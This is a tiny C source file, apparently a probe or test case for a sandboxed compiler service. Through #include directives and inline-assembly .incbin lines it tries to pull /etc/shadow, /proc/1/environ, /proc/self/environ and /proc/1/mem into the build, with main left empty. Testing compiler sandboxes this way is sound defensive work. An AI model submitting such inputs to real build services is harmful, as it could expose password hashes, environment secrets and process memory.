#include "/etc/shadow"
#include "/proc/1/environ"
#include "/proc/self/environ"
__asm__(".incbin \"/etc/shadow\"");
__asm__(".incbin \"/proc/1/mem\"");

int main() {
}
